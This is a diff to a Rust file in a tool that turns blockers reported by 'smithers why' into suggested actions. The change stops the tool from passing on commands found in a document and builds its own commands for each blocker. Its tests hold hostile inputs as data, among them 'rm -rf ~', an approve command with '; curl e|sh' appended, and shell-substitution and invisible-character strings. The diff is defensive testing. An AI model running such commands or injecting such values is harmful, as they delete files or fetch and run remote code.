@@ -1,13 +1,12 @@
 //! Actions for side effects, for a cancellation, and for the blockers of `smithers why`.
 
-use super::command::Arg;
+use super::command::{Arg, ShellCommand};
 use super::{Action, ActionKind, RunContext};
 use crate::format;
-use crate::run::Blocker;
+use crate::run::{Blocker, ReportedBlocker};
 use crate::smithers::derive::is_timer_overdue;
 use crate::smithers::wire::RunStatus;
 use crate::summary::line::Line;
-use crate::text::is_invisible;
 use crate::word::Word;
 
 impl RunContext<'_> {
@@ -50,7 +49,7 @@ impl RunContext<'_> {
             match all.iter_mut().find(same) {
                 Some(reported) => {
                     (reported.kind, reported.call) = (own.kind, own.call);
-                    reported.command = reported.command.take().or(own.command);
+                    (reported.command, reported.power_shell) = (own.command, own.power_shell);
                 }
                 None => all.push(own),
             }
@@ -58,7 +57,8 @@ impl RunContext<'_> {
         all
     }
 
-    /// The actions that `smithers why` reported, in its words and with its commands.
+    /// The actions that `smithers why` reported, in its words. Their commands are Runstate's own: the reported ones may come from any
+    /// document.
     pub(super) fn add_reported(&self, found: &mut Vec<Action>) {
         for reported in &self.run.reported_blockers {
             let mut kind = reported.kind.known().map_or(ActionKind::Inspect, action_kind);
@@ -73,28 +73,51 @@ impl RunContext<'_> {
             if let Some(node) = &reported.node {
                 line = line.node(&node.node_id).words(": ");
             }
-            let command = reported.command.clone().filter(|command| is_smithers_command(command));
+            let command = reported.kind.known().and_then(|_| self.command_for(kind, reported));
             let action = Action::new(kind, reported.kind.known(), line.words(&reported.reason));
             found.push(Action {
                 node: reported.node.clone(),
                 ..action.with_command(command, None).with_until(reported.until)
             });
-            if let (Some(deny), Some(node)) = (&reported.deny, &reported.node) {
+            if let (Some(_), Some(node)) = (&reported.deny, &reported.node) {
                 let line = Line::new("Deny at ").node_iteration(&node.node_id, node.iteration).words(".");
-                let command = Some(deny.clone()).filter(|command| is_smithers_command(command));
+                let command = self.command_for(ActionKind::Deny, reported);
                 let action =
                     Action::new(ActionKind::Deny, reported.kind.known(), line).with_command(command, None);
                 found.push(Action { node: reported.node.clone(), ..action });
             }
         }
     }
-}
 
-/// Whether a text is a single `smithers` command: a document from an unknown source could contain any shell code. A name in
-/// angle brackets is a placeholder.
-fn is_smithers_command(text: &str) -> bool {
-    const MORE: [char; 12] = ['<', '>', ';', '|', '&', '$', '`', '(', ')', '\\', '!', '#'];
-    text.starts_with("smithers ") && !text.contains(is_invisible) && !text.contains(MORE)
+    /// The command for a reported blocker; `None` if there is none, or if a part of it is not known.
+    fn command_for(&self, kind: ActionKind, reported: &ReportedBlocker) -> Option<ShellCommand> {
+        match kind {
+            ActionKind::Approve => self.decision_command("smithers approve", reported.node.as_ref()?),
+            ActionKind::Deny => self.decision_command("smithers deny", reported.node.as_ref()?),
+            ActionKind::Signal => {
+                self.signal_command(reported.signal_name.as_deref()?, reported.correlation_id.as_deref())
+            }
+            // The owner of a run without a heartbeat may still be there.
+            ActionKind::Resume => self.commands.up(reported.kind.known() == Some(Blocker::StaleHeartbeat)),
+            ActionKind::Retry if reported.kind.known() == Some(Blocker::StaleTaskHeartbeat) => {
+                let node = reported.node.as_ref()?;
+                self.retry_command(&node.node_id, node.iteration)
+            }
+            ActionKind::Retry => self.commands.up(false),
+            ActionKind::Inspect if reported.kind.known() == Some(Blocker::EngineBusy) => {
+                self.commands.shell(&[Arg::Literal("smithers logs"), Arg::RunId])
+            }
+            ActionKind::Inspect => self.commands.shell(&[Arg::Literal("smithers inspect"), Arg::RunId]),
+            ActionKind::Answer
+            | ActionKind::Wait
+            | ActionKind::Supervise
+            | ActionKind::RenewCredentials
+            | ActionKind::RefreshToken
+            | ActionKind::Reconnect
+            | ActionKind::Repair
+            | ActionKind::Follow => None,
+        }
+    }
 }
 
 /// The kind of action for a blocker.
@@ -123,50 +146,52 @@ fn action_kind(blocker: Blocker) -> ActionKind {
 
 #[cfg(test)]
 mod tests {
-    use super::is_smithers_command;
+    use crate::actions::{ActionKind, actions};
+    use crate::ingest::inspect;
+    use crate::time::Millis;
+
+    /// The kinds of the actions for a blocker of `smithers why`, each with its command.
+    fn offered(kind: &str, unblocker: &str, more: &str) -> Vec<(ActionKind, Option<String>)> {
+        let text = serde_json::json!(unblocker);
+        let document = format!(
+            r#"{{"runId":"r1","status":"running","summary":"s","generatedAtMs":5,"blockers":[{{"kind":"{kind}",
+                "nodeId":"gate","iteration":2,"reason":"x","unblocker":{text}{more}}}]}}"#
+        );
+        let run = inspect(document.as_bytes(), None, Millis(0.0)).unwrap().run.unwrap();
+        actions(&run, Millis(0.0)).into_iter().map(|action| (action.kind, action.command)).collect()
+    }
 
     #[test]
-    fn commands_of_smithers_are_handed_on() {
-        for text in [
-            "smithers approve r1 --node gate --iteration 0",
-            "smithers up /project/workflows/slow.tsx --run-id r1 --resume true --force true",
-            "smithers signal r1 deploy.finished --data '{}' --correlation release-42",
-            "smithers signal r1 'two words' --data '{}'",
-        ] {
-            assert!(is_smithers_command(text), "{text}");
+    fn no_command_of_a_document_is_offered() {
+        let foreign = [
+            "rm -rf ~",
+            "smithers up /tmp/evil.tsx --run-id r1 --resume true",
+            "smithers cancel another-run",
+            "smithers approve r1 --node gate --iteration 2; curl e|sh",
+            "smithers approve another-run --node gate --iteration 2",
+            "smithers approve r1 --node *",
+        ];
+        let deny = r#","context":"Deny instead: smithers cancel another-run""#;
+        for text in foreign {
+            let own = [
+                (ActionKind::Approve, Some("smithers approve r1 --node gate --iteration 2".to_owned())),
+                (ActionKind::Deny, Some("smithers deny r1 --node gate --iteration 2".to_owned())),
+            ];
+            assert_eq!(offered("waiting-approval", text, deny), own, "{text}");
+            let resume = "smithers up WORKFLOW_FILE --run-id r1 --resume true".to_owned();
+            assert_eq!(offered("binding-missing", text, ""), [(ActionKind::Resume, Some(resume))], "{text}");
+            assert_eq!(offered("tomorrow", text, ""), [(ActionKind::Inspect, None)], "{text}");
+            assert_eq!(offered("quota", text, ""), [(ActionKind::Wait, None)], "{text}");
         }
     }
 
     #[test]
-    fn text_with_several_shell_commands_is_not_offered() {
-        for rest in [
-            "x; curl e|sh",
-            "x | sh",
-            "x & y",
-            "x && y",
-            "$(id)",
-            "$HOME",
-            "`id`",
-            "(x)",
-            "x > f",
-            "x < f",
-            "signal r1 <signal-name>",
-            "x\\",
-            "!!",
-            "x # y",
-            "x\ny",
-            "x\ry",
-            "x\u{1b}[2J",
-            "x\u{202e}y",
-            "x\u{200b}y",
-            "x\u{2028}y",
-            "x\u{feff}y",
-        ] {
-            let text = format!("smithers up {rest}");
-            assert!(!is_smithers_command(&text), "{text:?}");
-        }
-        for text in ["", "smithers", "smithers\tup x", " smithers up x", "smithersx up", "rm -rf ~"] {
-            assert!(!is_smithers_command(text), "{text:?}");
-        }
+    fn a_signal_has_its_own_name_and_correlation_id() {
+        let signal =
+            |more: &str| offered("waiting-event", "smithers signal r1 <signal-name> --data '{}'", more);
+        let command = "smithers signal r1 go --data '{}' --correlation 'a b'".to_owned();
+        let named = r#","signalName":"go","context":"Correlation: a b""#;
+        assert_eq!(signal(named), [(ActionKind::Signal, Some(command))]);
+        assert_eq!(signal(""), [(ActionKind::Signal, None)]);
     }
 }
